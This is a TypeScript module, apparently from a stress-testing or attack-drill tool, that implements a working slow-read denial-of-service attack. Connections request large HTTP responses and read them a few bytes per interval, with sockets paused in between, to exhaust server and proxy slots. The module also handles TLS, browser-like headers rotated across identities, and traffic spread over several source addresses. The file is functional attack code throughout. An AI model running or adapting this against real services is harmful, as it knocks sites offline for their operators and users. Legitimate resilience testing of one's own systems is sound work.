import { connect, type Socket } from 'node:net';
import { browserHeaders } from './headers.js';
import { recordAnswer } from './metrics.js';
import { holdConnections, type RunningSlow, type SlowEnv, type SlowSpec } from './slow.js';
import { drillLocalPorts } from './local-ports.js';
import { openTargetSocket, targetScheme } from './tls-target.js';

/**
 * Slow read: each connection sends a complete, valid GET for a large response, then reads the
 * answer `readBytes` at a time, once per `intervalMs`, and asks again on the same keep-alive
 * connection when an answer is read to its end. Node cannot shrink SO_RCVBUF, so reads go through
 * a `readBytes` buffer (`onread`) and the socket is paused between reads: the kernel's buffers fill
 * and the server's writes stop. Only the part of a response the kernel cannot hold (about 4 MB per
 * TCP hop on Linux loopback) keeps the server's writer waiting — which is what holds an upstream
 * slot behind a proxy that does not buffer responses.
 */

/** Where one response is in its framing, read byte by byte as it arrives. */
export interface ResponseProgress {
  head: string;
  /** Null while the head is incomplete. */
  status: number | null;
  /** Body bytes still expected (Content-Length), or -1 for chunked (ends at `0\r\n\r\n`), -2 until close. */
  remaining: number;
  tail: string;
  close: boolean;
}

const MAX_HEAD = 16 * 1024;

/** A fresh parser state. */
export function newResponse(): ResponseProgress {
  return { head: '', status: null, remaining: 0, tail: '', close: false };
}

/**
 * Feeds `buf` to `p`; true when the response ended within `buf` (`p.status` is set as soon as the
 * head is complete). Bytes after the end are ignored (no pipelining).
 * @example feedResponse(newResponse(), Buffer.from('HTTP/1.1 204 No Content\r\n\r\n')) === true
 */
export function feedResponse(p: ResponseProgress, buf: Buffer, method = 'GET'): boolean {
  let body = buf;
  if (p.status === null) {
    p.head += buf.toString('latin1');
    const end = p.head.indexOf('\r\n\r\n');
    if (end < 0) {
      if (p.head.length > MAX_HEAD) { p.status = 0; p.remaining = -2; }
      return false;
    }
    const head = p.head.slice(0, end);
    body = Buffer.from(p.head.slice(end + 4), 'latin1');
    p.head = head;
    const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0);
    p.status = status;
    const length = /\r\ncontent-length:\s*(\d+)/i.exec(head);
    p.close = /\r\nconnection:\s*close/i.test(head) || head.startsWith('HTTP/1.0');
    if (method === 'HEAD' || status === 204 || status === 304 || (status >= 100 && status < 200)) p.remaining = 0;
    else if (/\r\ntransfer-encoding:[^\r]*chunked/i.test(head)) p.remaining = -1;
    else if (length) p.remaining = Number(length[1]);
    else p.remaining = -2;
  }
  if (p.remaining > 0) p.remaining = Math.max(0, p.remaining - body.length);
  else if (p.remaining === -1) {
    // Chunked: the last-chunk marker may straddle reads of a few bytes, so keep a short tail.
    p.tail = (p.tail + body.toString('latin1')).slice(-16);
    if (p.tail.endsWith('\r\n0\r\n\r\n') || p.tail === '0\r\n\r\n') p.remaining = 0;
    else return false;
  } else if (p.remaining === -2) return false;
  return p.remaining === 0;
}

/** Starts a slow-read attack; connections are spread round-robin over the source addresses. */
export function startSlowRead(spec: SlowSpec, env: SlowEnv): RunningSlow {
  const readBytes = Math.max(1, Math.floor(spec.readBytes ?? 16));
  // One read buffer for every socket: `onread` callbacks run one at a time and copy nothing out.
  const readBuffer = Buffer.alloc(readBytes);
  const state = new WeakMap<Socket, ResponseProgress>();
  let bytesRead = 0;
  let responsesCompleted = 0;

  const request = (idx: number): string => {
    const id = env.identities[idx % env.identities.length]!;
    const h = browserHeaders(id, 'script', `${targetScheme(env)}://${env.hostHeader}/`);
    const lines = [`GET ${spec.path} HTTP/1.1`, `Host: ${env.hostHeader}`, ...Object.entries(h).map(([k, v]) => `${k}: ${v}`), 'Connection: keep-alive'];
    return `${lines.join('\r\n')}\r\n\r\n`;
  };

  // What one read brought: the response parsed on, the next request asked when one ended.
  const onBytes = (socket: Socket, idx: number, bytes: Buffer): void => {
    bytesRead += bytes.length;
    const p = state.get(socket);
    if (!p) return;
    const hadHead = p.status !== null;
    const ended = feedResponse(p, bytes);
    if (!hadHead && p.status !== null) recordAnswer(h.counters, env.now(), String(p.status || 'data'));
    if (ended) {
      responsesCompleted++;
      if (p.close) socket.end();
      else { state.set(socket, newResponse()); socket.write(request(idx)); }
    }
  };

  const h = holdConnections(spec, env, {
    open(idx, address) {
      const local = address ? { localAddress: address, localPort: drillLocalPorts.next(address) } : {};
      if (env.tls === true) {
        // Over TLS a read is one decrypted record (up to 16 KiB): a TLS socket cannot hand fewer
        // bytes than its record. The pace is kept — one read per interval, the socket paused
        // between, so the TCP window closes and the target's writes wait as they do in clear.
        const { socket, ready } = openTargetSocket(env, local);
        state.set(socket, newResponse());
        socket.setNoDelay(true);
        socket.on('data', (buf: Buffer) => { socket.pause(); onBytes(socket, idx, buf); });
        socket.once(ready, () => socket.write(request(idx)));
        return socket;
      }
      const socket: Socket = connect({
        host: env.host, port: env.port, ...local,
        onread: {
          buffer: readBuffer,
          callback(n: number, buf: Uint8Array): boolean {
            onBytes(socket, idx, Buffer.from(buf.buffer, buf.byteOffset, n));
            return false; // pause: the next read waits for the next interval
          },
        },
      });
      state.set(socket, newResponse());
      socket.setNoDelay(true);
      socket.once('connect', () => socket.write(request(idx)));
      return socket;
    },
    trickle(socket) {
      socket.resume(); // one read of at most readBytes, then the callback pauses it again
    },
  });
  return {
    counters: h.counters,
    get held() { return h.held.size; },
    get longestHeldMs() { return h.longestHeldMs(); },
    get bytesRead() { return bytesRead; },
    get responsesCompleted() { return responsesCompleted; },
    done: h.done,
  };
}
